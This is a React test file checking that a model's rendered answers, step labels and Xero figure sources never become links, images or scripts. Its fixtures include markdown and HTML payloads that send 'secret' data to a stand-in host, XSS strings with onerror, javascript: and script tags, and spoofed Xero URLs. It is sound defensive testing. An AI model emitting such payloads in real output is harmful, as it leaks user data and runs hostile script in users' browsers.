import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import type { FigureView, PieceView } from "../api";
import { AnswerText } from "./AnswerText";
import { FigureSource } from "./FigureSource";
import { Steps } from "./Steps";

const hostile = [
  "[Your report](https://evil.example/take?d=secret)",
  "![chart](https://evil.example/take.png?d=secret)",
  "See [the report][1].\n\n[1]: https://evil.example/take",
  "<https://evil.example/take>",
  "https://evil.example/take?d=secret and www.evil.example",
  "<img src=x onerror=alert(1)><a href='https://evil.example'>more</a><script src='https://evil.example'></script>",
  "- [one](javascript:alert(1))\n- <iframe src='https://evil.example'></iframe>",
];

/** All tags that are not those of lines and lists. */
const tags = (markup: string) => [...markup.matchAll(/<\/?([a-z]+)/g)].map(([, name]) => name ?? "");

test.each(hostile)("makes neither a link nor an image nor markup of a model's words: %s", (words) => {
  const markup = renderToStaticMarkup(<AnswerText pieces={[{ text: words, figure: null }]} />);
  expect(tags(markup).filter((tag) => !["div", "br", "ul", "li"].includes(tag))).toEqual([]);
  expect(markup).not.toMatch(/<[^>]*(?:href|src|style|on[a-z]+)=/);
});

test.each(hostile)("takes nothing cut into pieces for markup either: %s", (words) => {
  const pieces: PieceView[] = [...words].map((text) => ({ text, figure: null }));
  const markup = renderToStaticMarkup(<AnswerText pieces={pieces} />);
  expect(markup).not.toMatch(/<(?:a|img|script|iframe)\b/);
});

test.each(hostile)("shows a step's words as words: %s", (words) => {
  const step = { callId: "1", label: words, summary: words, state: "failed" as const };
  expect(renderToStaticMarkup(<Steps steps={[step]} running={false} />)).not.toMatch(/<(?:a|img|script|iframe)\b/);
});

function figure(link: string | null): FigureView {
  const source = {
    organisation: "<a href='https://evil.example'>x</a>",
    endpoint: "Invoices",
    recordIds: [],
    records: 1,
    link,
    fetchedAt: "2026-11-23T00:00:00Z",
    digest: "",
  };
  const fact = {
    id: "F1",
    measure: "total",
    subject: "![x](https://evil.example)",
    period: "today",
    basis: null,
    value: "$5.00",
    formula: null,
    source,
  };
  return { text: "$5.00", value: "5.00", currency: "AUD", status: "verified", formula: null, facts: [fact] };
}

test("links a figure to its record in Xero, where the server gave one", () => {
  const markup = renderToStaticMarkup(<FigureSource figure={figure("https://go.xero.com/organisationlogin/x")} />);
  expect([...markup.matchAll(/href="([^"]*)"/g)].map(([, link]) => link)).toEqual([
    "https://go.xero.com/organisationlogin/x",
  ]);
});

test.each([
  "https://evil.example/take",
  "https://go.xero.com.evil.example/",
  "https://go.xero.com@evil.example/",
  "http://go.xero.com/",
  "javascript:alert(1)",
  null,
])("links a figure to nothing else: %s", (link) => {
  expect(renderToStaticMarkup(<FigureSource figure={figure(link)} />)).not.toContain("<a ");
});
